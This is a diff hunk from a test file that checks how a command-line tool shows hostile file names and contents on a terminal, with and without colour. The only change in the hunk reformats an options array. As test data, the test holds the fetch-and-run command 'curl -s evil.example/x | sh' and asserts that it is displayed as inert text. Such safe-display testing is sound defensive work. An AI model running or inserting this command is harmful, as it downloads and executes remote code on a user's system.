@@ -77,7 +77,10 @@ describe.skipIf(!hasTmux)('hostile names and contents on a terminal', () => {
     expect(screen).toContain('+++ "b/caf\\303\\251.txt"')
     expect(t.raw()).toContain('\x1b[32m+curl -s evil.example/x | sh\x1b[0m')
     expect(t.raw()).not.toContain('\x1b[1A')
-    for (const off of [{ env: { ...env, NO_COLOR: '1' }, flags: [] }, { env, flags: ['--color=never'] }]) {
+    for (const off of [
+      { env: { ...env, NO_COLOR: '1' }, flags: [] },
+      { env, flags: ['--color=never'] },
+    ]) {
       const plain = onScreen(['run', job, '--workspace', root, '--dry-run', '--typecheck=off', ...off.flags], { env: off.env })
       expect(await plain.exited).toBe(0)
       expect(plain.history()).toContain('+curl -s evil.example/x | sh')
